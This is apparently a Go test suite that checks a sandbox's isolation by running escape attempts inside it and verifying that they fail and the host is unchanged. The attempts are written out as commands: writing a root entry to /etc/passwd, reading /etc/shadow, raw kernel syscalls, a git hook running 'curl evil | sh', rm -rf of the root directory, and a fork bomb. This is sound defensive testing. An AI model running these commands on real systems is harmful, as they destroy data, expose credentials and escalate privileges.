package sandbox

import (
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// hostFingerprint records the size, mode and mtime of everything under
// deep, and the names and modes of what is directly in shallow (where other
// programs on the machine may be writing, so mtimes would be noise).
func hostFingerprint(deep, shallow []string) map[string]string {
	fp := map[string]string{}
	for _, root := range deep {
		_ = filepath.Walk(root, func(p string, fi fs.FileInfo, err error) error {
			if err == nil {
				fp[p] = fmt.Sprintf("%d %o %d", fi.Size(), fi.Mode(), fi.ModTime().UnixNano())
			}
			return nil
		})
	}
	for _, dir := range shallow {
		ents, _ := os.ReadDir(dir)
		for _, e := range ents {
			fp[filepath.Join(dir, e.Name())] = e.Type().String()
		}
	}
	return fp
}

// sameHost reports every path whose fingerprint changed.
func sameHost(t *testing.T, before, after map[string]string) {
	t.Helper()
	for p, v := range before {
		if w, ok := after[p]; !ok {
			t.Errorf("host: %s disappeared", p)
		} else if w != v {
			t.Errorf("host: %s changed: %s -> %s", p, v, w)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("host: %s appeared", p)
		}
	}
}

// listener counts the connections a host-side listener accepts.
type listener struct {
	ln    net.Listener
	count atomic.Int64
}

func listen(t *testing.T, network, addr string) *listener {
	t.Helper()
	ln, err := net.Listen(network, addr)
	if err != nil {
		t.Fatalf("listen %s %s: %v", network, addr, err)
	}
	l := &listener{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			l.count.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return l
}

type attack struct {
	name string
	cmd  string
	// ok checks the outcome; nil means "must exit non-zero".
	ok func(code int, out string) error
}

func mustFail(code int, out string) error {
	if code == 0 {
		return fmt.Errorf("succeeded (exit 0): %q", out)
	}
	return nil
}

func outputIs(want string) func(int, string) error {
	return func(code int, out string) error {
		if strings.TrimSpace(out) != want {
			return fmt.Errorf("exit %d, output %q, want %q", code, out, want)
		}
		return nil
	}
}

// perlSyscall is a perl one-liner that makes a raw system call and prints
// "-1 <errno text>" or its result: the way to try calls no installed tool
// makes (finit_module, kexec_load, bpf ...).
func perlSyscall(nr uintptr, args ...string) string {
	return fmt.Sprintf(`perl -e '$r = syscall(%d%s); print "$r $!\n"'`, nr, strings.Join(append([]string{""}, args...), ", "))
}

// TestEscapes runs real attacks inside a sandbox through the real terminal.
// Every one must fail inside; afterwards the host's files are unchanged,
// host listeners saw no connection, and a second sandbox alongside still
// answers.
func TestEscapes(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})

	// Things of the daemon's that live on the host outside the workspace.
	hostDir := t.TempDir()
	store := filepath.Join(hostDir, "store.db")
	if err := os.WriteFile(store, []byte("SECRET-STORE"), 0o600); err != nil {
		t.Fatal(err)
	}
	sock := listen(t, "unix", filepath.Join(hostDir, "daemon.sock"))
	abstract := listen(t, "unix", "@harnessd-test-"+filepath.Base(hostDir))
	tcp := listen(t, "tcp", "127.0.0.1:0")
	tcpPort := tcp.ln.Addr().(*net.TCPAddr).Port
	rootSecret := filepath.Join("/root", ".harnessd-test-secret-"+filepath.Base(hostDir))
	if err := os.WriteFile(rootSecret, []byte("SECRET-ROOT"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(rootSecret) })
	var devNull unix.Stat_t
	_ = unix.Stat("/dev/null", &devNull)

	deep := []string{"/etc", "/usr/bin", "/usr/sbin", "/usr/lib/modules", hostDir}

	victim := newBox(t, d, Spec{})
	victim.must("echo precious > keep")
	ws := t.TempDir()
	if err := os.MkdirAll(filepath.Join(ws, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, ".git/config"), []byte("original\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	giveTo(t, ws, DefaultUID, DefaultGID)
	attacker := newBox(t, d, Spec{Workspace: ws, Limits: Limits{MemoryBytes: 256 << 20, TmpBytes: 8 << 20}})

	shallow := []string{"/", "/root", "/var", "/usr/lib"}
	before := hostFingerprint(deep, shallow)

	attacks := []attack{
		// Writing outside the workspace.
		{"write /etc/passwd", "echo 'evil::0:0::/:/bin/sh' >> /etc/passwd", nil},
		{"plant /usr/bin", "touch /usr/bin/evil", nil},
		{"write /", "mkdir /evil", nil},
		{"write /root", "echo x > /root/evil", nil},
		{"write host store by path", "echo x >> " + store, nil},
		{"chmod host /dev/null", "chmod 000 /dev/null", nil},
		{"mknod a disk", "mknod /tmp/sda b 8 0", nil},
		{"sysrq", "echo h > /proc/sysrq-trigger", nil},
		{"sysctl", "echo 1 > /proc/sys/vm/drop_caches", nil},
		{"core_pattern", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern", nil},
		{"hostname of host", "hostname evil", nil},
		// Reading what is not the sandbox's.
		{"read /etc/shadow", "cat /etc/shadow", nil},
		{"read /etc/gshadow", "cat /etc/gshadow", nil},
		{"read /root", "cat " + rootSecret, nil},
		{"list /root", "ls /root", nil},
		{"read host store", "cat " + store, nil},
		{"find host store", "ls " + hostDir, nil},
		{"no /sys", "ls /sys/kernel", nil},
		{"no /var", "ls /var/lib", nil},
		{"init's environment", "cat /proc/1/environ", nil},
		{"init's descriptors", "for f in /proc/1/fd/*; do readlink $f && exit 0; ls $f/ && exit 0; done; exit 1", nil},
		{"init's root", "ls /proc/1/root/", nil},
		{"host processes hidden", "ls /proc | grep -c '^[0-9]'", func(code int, out string) error {
			var n int
			fmt.Sscan(out, &n)
			if n == 0 || n > 20 {
				return fmt.Errorf("%d processes visible, want only the sandbox's few", n)
			}
			return nil
		}},
		// Sockets and the network.
		{"daemon socket", fmt.Sprintf(`python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('%s')"`, sock.ln.Addr()), nil},
		{"abstract socket", fmt.Sprintf(`python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\0%s')"`, strings.TrimPrefix(abstract.ln.Addr().String(), "@")), nil},
		{"host loopback tcp", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d", tcpPort), nil},
		{"only loopback", "ls /sys/class/net 2>/dev/null || cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '", outputIs("lo")},
		// Privileged operations.
		{"mount tmpfs", "mount -t tmpfs none /tmp", nil},
		{"bind mount", "mkdir -p /tmp/m && mount --bind / /tmp/m", nil},
		{"unshare user", "unshare -r true", nil},
		{"unshare mount", "unshare -m true", nil},
		{"strace", "strace -f true", nil},
		{"ptrace attach", perlSyscall(unix.SYS_PTRACE, "16", "1", "0", "0"), outputIs("-1 Operation not permitted")},
		{"finit_module", perlSyscall(unix.SYS_FINIT_MODULE, "0", "0", "0"), outputIs("-1 Operation not permitted")},
		{"init_module", perlSyscall(unix.SYS_INIT_MODULE, "0", "0", "0"), outputIs("-1 Operation not permitted")},
		{"delete_module", perlSyscall(unix.SYS_DELETE_MODULE, "0", "0"), outputIs("-1 Operation not permitted")},
		{"kexec_load", perlSyscall(unix.SYS_KEXEC_LOAD, "0", "0", "0", "0"), outputIs("-1 Operation not permitted")},
		{"bpf", perlSyscall(unix.SYS_BPF, "0", "0", "0"), outputIs("-1 Operation not permitted")},
		{"keyctl", perlSyscall(unix.SYS_KEYCTL, "0", "0"), outputIs("-1 Operation not permitted")},
		{"setns", perlSyscall(unix.SYS_SETNS, "0", "0"), outputIs("-1 Operation not permitted")},
		{"reboot", perlSyscall(unix.SYS_REBOOT, "0xfee1dead", "672274793", "0x4321fedc"), outputIs("-1 Operation not permitted")},
		{"open_by_handle_at", perlSyscall(unix.SYS_OPEN_BY_HANDLE_AT, "0", "0", "0"), outputIs("-1 Operation not permitted")},
		// Setuid programs gain nothing.
		{"su", "su -c 'grep CapEff /proc/self/status' root </dev/null 2>/dev/null || echo refused", func(code int, out string) error {
			if o := strings.TrimSpace(out); o != "refused" && !strings.HasSuffix(o, "0000000000000000") {
				return fmt.Errorf("su: %q", out)
			}
			return nil
		}},
		{"passwd", "echo -e 'x\\nx' | passwd root", nil},
		{"copied setuid binary", "cp /usr/bin/grep ./suidgrep && chmod u+s ./suidgrep", nil},
		// openat2's mode is out of the filter's sight: not there at all.
		{"openat2", fmt.Sprintf(`perl -e '$p = "/etc/hostname"; $h = pack("QQQ", 0, 0, 0); $r = syscall(%d, -100, $p, $h, 24); print "$r $!\n"'`, unix.SYS_OPENAT2), outputIs("-1 Function not implemented")},
		// Protected workspace paths.
		{"plant a git hook", "echo 'curl evil | sh' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout", nil},
		{"rewrite .git/config", "echo '[core] fsmonitor = /tmp/x' > .git/config", nil},
		{"swap .git", "mv .git .git-old", nil},
		{"remove .git/config", "rm -f .git/config", nil},
		{"harness settings", "touch .harness/hooks.lua", nil},
		// Resources.
		{"memory hog", `python3 -c 'b = bytearray(1 << 30)' 2>&1 | tail -1`, outputIs("MemoryError")},
		{"fill /tmp", "dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>&1; ls -l /tmp/fill | awk '{print $5}'", func(code int, out string) error {
			if !strings.Contains(out, "No space left") {
				return fmt.Errorf("dd into an 8 MiB /tmp: %q", out)
			}
			return nil
		}},
		{"kill everything", "kill -9 -1; echo survived", func(code int, out string) error {
			if !strings.Contains(out, "survived") {
				return fmt.Errorf("the shell did not survive: %q", out)
			}
			return nil
		}},
	}
	for _, a := range attacks {
		code, out := attacker.runTimeout(a.cmd, 20*time.Second)
		check := a.ok
		if check == nil {
			check = mustFail
		}
		if err := check(code, out); err != nil {
			t.Errorf("attack %q (%s): %v", a.name, a.cmd, err)
		}
		first, _, _ := strings.Cut(strings.TrimSpace(out), "\n")
		t.Logf("%-24s exit %3d  %.100s", a.name, code, first)
	}

	// The sandbox still works, its protected files are as they were.
	if got := attacker.must("cat .git/config"); got != "original" {
		t.Errorf(".git/config inside = %q", got)
	}
	if b, _ := os.ReadFile(filepath.Join(attacker.ws, ".git/config")); string(b) != "original\n" {
		t.Errorf(".git/config on the host = %q", b)
	}
	if _, err := os.Stat(filepath.Join(attacker.ws, ".git/hooks/post-checkout")); err == nil {
		t.Errorf("a git hook was planted on the host")
	}
	// The host is unchanged and saw no connection.
	sameHost(t, before, hostFingerprint(deep, shallow))
	if _, err := os.Stat("/root/evil"); err == nil {
		t.Errorf("/root/evil was written")
	}
	if b, _ := os.ReadFile(rootSecret); string(b) != "SECRET-ROOT" {
		t.Errorf("%s changed: %q", rootSecret, b)
	}
	if b, _ := os.ReadFile(store); string(b) != "SECRET-STORE" {
		t.Errorf("store changed: %q", b)
	}
	var st unix.Stat_t
	if unix.Stat("/dev/null", &st) != nil || st.Mode != devNull.Mode || st.Uid != devNull.Uid {
		t.Errorf("/dev/null changed: %+v", st)
	}
	for name, l := range map[string]*listener{"unix": sock, "abstract": abstract, "tcp": tcp} {
		if n := l.count.Load(); n != 0 {
			t.Errorf("the host's %s listener accepted %d connections", name, n)
		}
	}
	// The other sandbox answers, with its state.
	if got := victim.must("cat keep"); got != "precious" {
		t.Errorf("second sandbox: %q", got)
	}
}

// TestRmRfRoot: `rm -rf /` inside removes only what the sandbox may write
// (its workspace, its /tmp); the host and the protected paths stay.
func TestRmRfRoot(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	deep := []string{"/etc", "/usr/bin", "/usr/sbin"}
	shallow := []string{"/", "/root", "/usr/lib"}
	before := hostFingerprint(deep, shallow)
	ws := t.TempDir()
	if err := os.MkdirAll(filepath.Join(ws, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, ".git/config"), []byte("cfg\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	giveTo(t, ws, DefaultUID, DefaultGID) // as if the sandbox had made them
	b := newBox(t, d, Spec{Workspace: ws})
	b.must("echo work > file")
	b.runTimeout("rm -rf --no-preserve-root / 2>/dev/null; true", time.Minute)
	if got := b.must("ls /usr/bin/bash && cat .git/config && ls " + ControlPath + "/rc"); got != "/usr/bin/bash\ncfg\n"+ControlPath+"/rc" {
		t.Fatalf("after rm -rf /: %q", got)
	}
	if _, err := os.Stat(filepath.Join(b.ws, "file")); err == nil {
		t.Errorf("the workspace is writable, so rm should have removed file")
	}
	sameHost(t, before, hostFingerprint(deep, shallow))
}

// TestForkBomb: a fork bomb is bounded by the pids limit; meanwhile the
// host and a second sandbox stay responsive, and Destroy leaves nothing.
func TestForkBomb(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	other := newBox(t, d, Spec{})
	b := newBox(t, d, Spec{Limits: Limits{Pids: 64}})
	done := make(chan struct{})
	go func() {
		defer close(done)
		var out strings.Builder
		_, _ = b.term.Run(t.Context(), termReq(":(){ :|:& };:", 3*time.Second), &out)
	}()
	time.Sleep(time.Second)
	st, err := b.sb.Stats(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if max := 64 + pidMaxSlack + 8; st.Processes > max {
		t.Errorf("fork bomb reached %d processes, want at most %d", st.Processes, max)
	}
	t0 := time.Now()
	if err := exec.Command("true").Run(); err != nil {
		t.Errorf("host: %v", err)
	}
	if d := time.Since(t0); d > 2*time.Second {
		t.Errorf("host took %s to run true during the fork bomb", d)
	}
	if got := other.must("echo ok"); got != "ok" {
		t.Errorf("second sandbox: %q", got)
	}
	t.Logf("fork bomb: %d processes in the sandbox (limit 64, pid_max %d); host answered in %s", st.Processes, 64+pidMaxSlack, time.Since(t0))
	if err := b.sb.Destroy(t.Context()); err != nil {
		t.Fatal(err)
	}
	<-done
	if st, _ := b.sb.Stats(t.Context()); st.Processes != 0 {
		t.Errorf("%d processes left after Destroy", st.Processes)
	}
}

// giveTo makes everything under dir (a workspace the test prepared as
// root) the given user's, as if the sandbox had made it.
func giveTo(t *testing.T, dir string, uid, gid int) {
	t.Helper()
	err := filepath.Walk(dir, func(p string, _ fs.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, uid, gid)
	})
	if err != nil {
		t.Fatal(err)
	}
}
